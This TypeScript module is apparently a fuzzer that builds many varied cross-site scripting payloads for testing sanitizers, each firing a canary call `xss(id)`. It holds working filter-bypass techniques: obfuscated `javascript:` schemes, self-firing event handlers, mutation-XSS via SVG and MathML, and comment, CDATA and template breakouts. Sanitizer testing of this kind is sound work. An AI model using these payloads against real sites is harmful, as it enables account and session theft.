import { Dice } from './dice.ts';
import { BREAKERS, DISGUISES, entities } from './disguises.ts';

/** A text that runs `xss(id)` wherever it is taken for markup. */
export interface Payload {
  readonly id: number;
  readonly text: string;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Ways to say `xss(id)`. */
const CALLS: readonly ((id: number) => string)[] = [
  (id) => `xss(${id})`,
  (id) => `window.xss(${id})`,
  (id) => `self['x'+'ss'](${id})`,
  (id) => `top.xss(${id})`,
  (id) => `(0,xss)(${id})`,
  (id) => `[${id}].map(xss)`,
  (id) => `xss.call(0,${id})`,
  (id) => `x\\u0073s(${id})`,
  (id) => `eval('xss(${id})')`,
  (id) => `setTimeout('xss(${id})')`,
  (id) => `Function('xss(${id})')()`,
  (id) => `eval(atob('${base64(`xss(${id})`)}'))`,
  (id) => `Reflect.apply(xss,0,[${id}])`,
];

/** Elements that run an attribute by themselves. */
const SELF_FIRING: readonly (readonly [tag: string, event: string, rest?: string])[] = [
  ['img', 'onerror', 'src=x'],
  ['image', 'onerror', 'src=x'],
  ['img', 'onerror', 'srcset=x'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs='],
  ['svg', 'onload'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['video><source', 'onerror', 'src=x'],
  ['details', 'ontoggle', 'open'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['a', 'onfocus', 'autofocus tabindex=1'],
  ['iframe', 'onload'],
  ['object', 'onerror', 'data=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['style', 'onload'],
  ['script', 'onerror', 'src=x'],
  ['body', 'onload'],
  ['marquee', 'onstart'],
  ['svg><animate', 'onbegin', 'attributeName=x dur=1s'],
  ['svg><set', 'onbegin', 'attributeName=x'],
  ['svg><image', 'onerror', 'href=x'],
  ['style>@keyframes k{}</style><b', 'onanimationstart', 'style="animation:k 1s"'],
];

/** Events that wait for a reader. */
const WAITING = [
  ...[
    'onclick',
    'onmouseover',
    'onpointerenter',
    'onwheel',
    'onkeydown',
    'ondragstart',
    'oncontextmenu',
    'onpaste',
    'oncopy',
  ],
  ...[
    'onauxclick',
    'ontouchstart',
    'onbeforeinput',
    'onfocusin',
    'ondblclick',
    'onselectstart',
    'onscroll',
    'oncut',
    'oninput',
  ],
] as const;

/** Attributes that lead somewhere. */
const LEADING = [
  ...[
    'a href',
    'area href',
    'form action',
    'button formaction',
    'input type=submit formaction',
    'iframe src',
    'object data',
    'embed src',
  ],
  ...[
    'svg><a xlink:href',
    'math href',
    'base href',
    'frame src',
    'a ping',
    'video poster',
    'img src',
    'link rel=stylesheet href',
    'q cite',
  ],
] as const;

/** Holders that one parser reads as text and another as markup: what stands in the attribute breaks out in the second. */
const HOLDERS = [
  'noscript',
  'textarea',
  'title',
  'xmp',
  'style',
  'iframe',
  'noembed',
  'noframes',
  'template',
  'select',
  'script',
  'listing',
] as const;

/** Foreign contents in which the same tag means something else. */
const FOREIGN = [
  'math><mtext',
  'svg><desc',
  'svg><foreignObject',
  'svg><title',
  'math><annotation-xml encoding=text/html',
  'math><mi',
  'svg><p',
  'table><svg',
  'form><math><mtext',
  'math><mtext><table><mglyph',
  'math><mtext><mglyph><style',
  'svg><style',
] as const;

type Carrier = (js: string, dice: Dice) => string;

const attribute: Carrier = (js, dice) => {
  const [tag, event, rest] = dice.pick(SELF_FIRING);
  return element({ tag, attributes: [rest ?? '', `${event}=${quoted(js, dice)}`] }, dice);
};
const waiting: Carrier = (js, dice) =>
  `${element({ tag: dice.pick(['b', 'p', 'a', 'div', 'x', 'td', 'h2']), attributes: [`${dice.pick(WAITING)}=${quoted(js, dice)}`, 'tabindex=1'] }, dice)}甲`;
const leading: Carrier = (js, dice) => {
  const [tag = '', attribute = ''] = dice.pick(LEADING).split(/ (?=\S+$)/);
  return `${element({ tag, attributes: [`${attribute}="${scheme(dice)}${encoded(js, dice)}"`] }, dice)}乙`;
};

/** Everything that can carry a call. */
const CARRIERS: readonly Carrier[] = [
  attribute,
  attribute,
  waiting,
  leading,
  (js, dice) =>
    `<${cased('script', dice)}${dice.pick(['', ' x', '/x', ' type=module', ' type=text/javascript'])}>${js}</${cased('script', dice)}${dice.pick(['', ' ', ' x'])}>`,
  (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js, dice) => `<iframe srcdoc="${entities(`<img src=x onerror=${quoted(`parent.${js}`, dice)}>`)}"></iframe>`,
  (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`,
  (js) => `<object data="data:text/html;base64,${base64(`<script>${js}</script>`)}"></object>`,
  (js) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${js}</script>">`,
  (js, dice) => {
    const holder = dice.pick(HOLDERS);
    return `<${holder}><p title="</${holder}>${attribute(js, dice).replaceAll('"', '&quot;')}">`;
  },
  (js, dice) => `<${dice.pick(FOREIGN)}>${attribute(js, dice)}`,
  (js, dice) => `<${dice.pick(FOREIGN)}><!--</style><p title="--&gt;${entities(attribute(js, dice))}">`,
  (js, dice) => `<!--${dice.pick(['', '>', '->', '-'])}${attribute(js, dice)}${dice.pick(['-->', '--!>', ''])}`,
  (js, dice) => `<![CDATA[${dice.pick(['', '>'])}${attribute(js, dice)}]]>`,
  (js, dice) => `<?x ${dice.pick(['', '>', '?>'])}${attribute(js, dice)}?>`,
  (js, dice) => `<svg><animate attributeName=href values="${scheme(dice)}${js}" /><a><text>丙</text></a>`,
  (js, dice) =>
    `<style>p{background:url("${scheme(dice)}${js}")}@import '${scheme(dice)}${js}';</style><p style="width:expression(${js})">`,
  (js, dice) => `<table><tr>${attribute(js, dice)}<td></table>`,
  (js, dice) => `[点这里](${scheme(dice)}${js}) ![图](x"${dice.pick(WAITING)}="${js})`,
  (js, dice) =>
    dice.pick([`{{constructor.constructor('${js}')()}}`, `\${${js}}`, `<%= ${js} %>`, `#{${js}}`, `{{= ${js}}}`]),
  (js, dice) => `${scheme(dice)}${js}`,
];

interface Tag {
  readonly tag: string;
  readonly attributes: readonly string[];
}

function element({ tag, attributes }: Tag, dice: Dice): string {
  const gap = dice.pick([' ', ' ', '/', '\t', '\n', '\f', ' / ', '\r\n']);
  const given = attributes.filter(Boolean);
  const order = dice.happens(0.5) ? given : given.toReversed();
  return `<${cased(tag, dice)}${gap}${order.join(dice.pick([' ', '\t', '\n', ' / ']))}${dice.pick(['>', ' >', '/>', '//>', '\n>'])}`;
}

function cased(tag: string, dice: Dice): string {
  if (dice.happens(0.5)) return tag;
  return [...tag].map((letter) => (dice.happens(0.5) ? letter.toUpperCase() : letter)).join('');
}

/** An attribute's value in one of the ways to write it. */
function quoted(js: string, dice: Dice): string {
  const text = encoded(js, dice);
  if (!/[\s"'`>=]/.test(text) && dice.happens(0.4)) return text;
  return text.includes('"') || (dice.happens(0.4) && !text.includes(`'`))
    ? `'${text.replaceAll(`'`, '&#39;')}'`
    : `"${text}"`;
}

/** Some letters as entities: the browser reads them as what they stand for. */
function encoded(js: string, dice: Dice): string {
  const way = dice.pick(['plain', 'plain', 'decimal', 'hex', 'padded', 'named']);
  const write = (letter: string): string => {
    const code = letter.charCodeAt(0);
    return (
      {
        plain: letter,
        decimal: `&#${code};`,
        hex: `&#x${code.toString(16)};`,
        padded: `&#${String(code).padStart(7, '0')};`,
        named: letter,
      }[way] ?? letter
    );
  };
  if (way === 'named') return js.replaceAll('(', '&lpar;').replaceAll(')', '&rpar;');
  return [...js].map((letter) => (dice.happens(0.5) ? write(letter) : letter)).join('');
}

/** Ways to write a scheme that runs what follows. */
function scheme(dice: Dice): string {
  return dice.pick([
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    'java&#10;script:',
    '&#106;avascript:',
    ' javascript:',
    '\u0001javascript:',
    'javascript&colon;',
    'javascript://%0a',
    'javas\nc\nript:',
    '&#x6A&#x61vascript:',
    'view-source:javascript:',
    'feed:javascript:',
    'vbscript:',
  ]);
}

/** So many payloads, all different, every carrier among them. */
export function payloads(random: () => number, count: number): Payload[] {
  const dice = new Dice(random);
  const texts = new Set<string>();
  while (texts.size < count) {
    const carrier = CARRIERS[texts.size % CARRIERS.length] ?? attribute;
    const plain = dice.pick(BREAKERS) + carrier(dice.pick(CALLS)(texts.size), dice);
    texts.add(dice.happens(0.85) ? plain : dice.pick(DISGUISES)(plain, dice));
  }
  return [...texts].map((text, id) => ({ id, text }));
}
